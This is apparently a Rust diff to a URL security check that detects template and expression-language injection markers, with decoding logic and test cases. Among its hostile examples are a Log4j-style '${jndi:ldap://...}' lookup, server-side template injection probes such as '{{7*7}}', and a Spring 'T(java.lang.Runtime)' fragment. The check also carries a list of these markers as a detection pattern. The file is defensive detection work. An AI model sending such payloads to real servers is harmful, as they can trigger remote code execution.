@@ -1,9 +1,10 @@
-//! `template-payload`: Template expression.
+//! `template-payload`: an expression of a template language, after up to three rounds of decoding.
 
-use super::payload::*;
 use crate::facts::decoded::{Marks, ROUNDS};
-use crate::review::{Case, Check, Findings, Need, Severity};
-use crate::syntax::{Component, Span};
+use crate::message;
+use crate::message::Quote;
+use crate::review::{Case, Check, Example, Findings, Need, Severity};
+use crate::syntax::{Component, Span, percent_encoded_octet};
 
 /// The check.
 pub static CHECK: Check = Check {
@@ -13,56 +14,72 @@ pub static CHECK: Check = Check {
     need: Need::Payload,
     source: "RFC 3986 §7.3; Claroty and Snyk, URL confusion (Log4j)",
     title: "Template expression",
-    explanation: "Decoded, the text holds the opening mark of a template or expression \
-            language: “${”, “#{”, “%{”, “{{”, “{%”, “{$”, “<%”, “<#” or “<?=”, or “@{” or “~{” with an \
-            expression behind it. Engines that meet it in a log \
-            line or a page evaluate what follows; that is how “${jndi:” made servers fetch code. \
-            It may also be a placeholder that nobody has filled in.",
-    verify: "Decode the text, and look for a brace behind “$”, “#”, “%” or another brace.",
+    explanation: "Decoded, the text contains a mark that opens an expression in a template language: “${”, “#{”, \
+            “%{”, “*{”, “{{”, “{%”, “{$”, “<%”, “<#”, “<?=”, “<?php” or “#set(”, or “@{” or “~{” followed by an \
+            expression. A template engine evaluates what follows, in a page or in a line of a log; that is how \
+            “${jndi:” made servers run code from elsewhere. It may also be a placeholder that was never \
+            filled in.",
+    verify: "Decode the text, and look for “{” after “$”, “#”, “%” or another brace.",
     traits: &[],
-    hostile: &[],
-    innocent: &[],
+    hostile: &[
+        Example::of("http://example.com/?x=${jndi:ldap://example.net/a}"),
+        Example::of("http://example.com/%257B%257B7*7%257D%257D"),
+        Example::of("http://example.com/?x=@{7*7}"),
+        Example::of("http://example.com/~%7BT(java.lang.Runtime)%7D"),
+        Example::of("http://example.com/#~{::a}"),
+        Example::of("http://example.com/?x=%3C%3F%3D7*7"),
+        Example::of("http://example.com/?x=%7B$smarty.version%7D"),
+        Example::of("http://example.com/?x=%3C%25%3D%207*7"),
+        Example::of("http://example.com/#{7*7}"),
+    ],
+    innocent: &[
+        Example::of("http://example.com/{id}"),
+        Example::of("http://example.com/?a=$b"),
+        // The “%” begins an escape.
+        Example::of("http://example.com/?q=a<%20b"),
+        Example::of("http://example.com/?q=5<%3D6"),
+        Example::of("http://example.com/?q=a%3C%2520b"),
+        Example::of("http://example.com/@{name}"),
+        Example::of("http://example.com/~{user}/a*"),
+        Example::of("http://example.com/@{a"),
+        Example::of("http://example.com/#{a}"),
+    ],
     run,
 };
 
 fn run(case: &Case<'_>, findings: &mut Findings) {
-    let set = case.has(Marks::BRACKET, ROUNDS) && case.marks.any(Marks::PERCENT);
-    if !set && !case.has(Marks::ILLEGAL, ROUNDS) {
+    let may_be_set = case.has(Marks::BRACKET, ROUNDS) && case.marks.any(Marks::PERCENT);
+    if !may_be_set && !case.has(Marks::ILLEGAL, ROUNDS) {
         return;
     }
-    // A later round may take a mark apart: the “%” of “<%” is one. So the first round that has one
-    // counts.
-    let places = case.reference.components().authority.into_iter().chain(
-        TAIL.iter()
-            .filter_map(|component| case.component(*component).map(|(_, span)| span)),
-    );
-    for span in places {
+    let authority = case.reference.components().authority.into_iter();
+    for span in authority.chain(case.after_authority().map(|(_, span)| span)) {
+        // A later round may take a mark apart: the “%” of “<%” is one. So the last round that has one
+        // counts.
         for round in (0..=case.decoded().rounds()).rev() {
             let view = case.decoded().at(round, span);
-            let mut behind = 0;
+            let mut end = 0;
             for at in 0..view.octets.len() {
-                let rest = view.octets.get(at..).unwrap_or_default();
-                if at < behind {
+                if at < end {
                     continue;
                 }
-                let Some(mark) = opening(rest) else {
+                let Some(mark) = view.octets.get(at..).and_then(opening) else {
                     continue;
                 };
-                behind = at + mark.len();
+                end = at + mark.len();
                 if findings.is_full() {
                     return;
                 }
-                let found = view.span(at..behind);
-                let message = match case.is_password(found) {
-                    true => "Decoded, this opens a template expression.".to_owned(),
-                    false => format!(
-                        "Decoded, this opens a template expression: “{}”.",
-                        String::from_utf8_lossy(mark)
-                    ),
-                };
-                findings.add(found, message);
+                let span = view.span(at..end);
+                let mark = Quote::text(String::from_utf8_lossy(mark), span);
+                let message = message![
+                    "This decodes to the start of a template expression: ",
+                    mark,
+                    "."
+                ];
+                findings.add(span, message);
             }
-            if behind > 0 {
+            if end > 0 {
                 break;
             }
         }
@@ -75,9 +92,41 @@ fn run(case: &Case<'_>, findings: &mut Findings) {
         && expression.contains(['*', '(', '.', '\'', '+', '?'])
     {
         let start = span.start as usize;
+        let span = Span::new(start - 1, start + 1);
+        let mark = Quote::text("#{", span);
         findings.add(
-            Span::new(start - 1, start + 1),
-            "This opens a template expression: “#{”.",
+            span,
+            message!["This starts a template expression: ", mark, "."],
         );
     }
+}
+
+/// The opening marks of template languages.
+const TEMPLATES: [&[u8]; 12] = [
+    b"${", b"#{", b"%{", b"*{", b"{{", b"{%", b"{$", b"<%", b"<#", b"<?=", b"<?php", b"#set(",
+];
+
+/// Marks that open an expression only where one follows. Otherwise they may be a user (`@{name}`) or a home
+/// directory (`~{name}`) in a pattern of links.
+const BEFORE_EXPRESSIONS: [&[u8]; 2] = [b"@{", b"~{"];
+
+/// How far the end of an expression is looked for.
+const LONGEST: usize = 128;
+
+/// The opening mark at the start of `rest`.
+fn opening(rest: &[u8]) -> Option<&'static [u8]> {
+    if let Some(mark) = TEMPLATES.iter().find(|mark| rest.starts_with(mark)) {
+        // `a<%20b`: this `%` begins an escape.
+        let is_escape =
+            mark.ends_with(b"%") && percent_encoded_octet(rest.get(mark.len() - 1..)?).is_some();
+        return (!is_escape).then_some(mark);
+    }
+    let mark = BEFORE_EXPRESSIONS
+        .iter()
+        .find(|mark| rest.starts_with(mark))?;
+    let inner = rest.get(mark.len()..)?;
+    let near = inner.get(..LONGEST).unwrap_or(inner);
+    let inner = near.get(..memchr::memchr(b'}', near)?)?;
+    let is_expression = inner.iter().any(|octet| b"*(+'?$:".contains(octet));
+    is_expression.then_some(*mark)
 }
